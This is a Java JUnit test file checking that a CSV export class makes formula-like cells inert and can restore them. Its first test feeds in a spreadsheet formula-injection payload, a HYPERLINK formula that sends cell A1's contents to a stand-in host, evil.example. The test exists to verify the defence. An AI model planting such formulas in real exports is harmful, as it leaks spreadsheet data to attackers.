package org.npsloop.domain.text;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class SpreadsheetCsvTest {

    @Test
    void formulaLikeTextIsInertNumbersAreNot() throws Exception {
        StringWriter out = new StringWriter();
        SpreadsheetCsv csv = SpreadsheetCsv.start(out, ';', List.of("name", "=evil header", "n"));
        csv.row(Arrays.asList("=HYPERLINK(\"http://evil.example/?\"&A1)", "+33 6 12", -5, null));
        csv.row(Arrays.asList("@SUM(A1)", "-2+3", "\tx", "O'Neil"));
        csv.flush();
        assertEquals("\ufeffname;'=evil header;n\r\n"
                + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\";'+33 6 12;-5;\r\n"
                + "'@SUM(A1);'-2+3;'\tx;O'Neil\r\n", out.toString());
    }

    @Test
    void restoredUndoesInertOnlyForWhatInertAdded() {
        for (String value : List.of("=1+1", "+33", "-x", "@a", "\tt", "\rr", "plain", "'quoted", "O'Neil", "'", "")) {
            assertEquals(value, SpreadsheetCsv.restored(SpreadsheetCsv.inert(value)), value);
        }
        assertEquals("'ordinary", SpreadsheetCsv.restored("'ordinary"));
    }

    @Test
    void onlyCommaOrSemicolon() {
        assertThrows(IllegalArgumentException.class, () -> SpreadsheetCsv.start(new StringWriter(), '|', List.of("a")));
    }
}
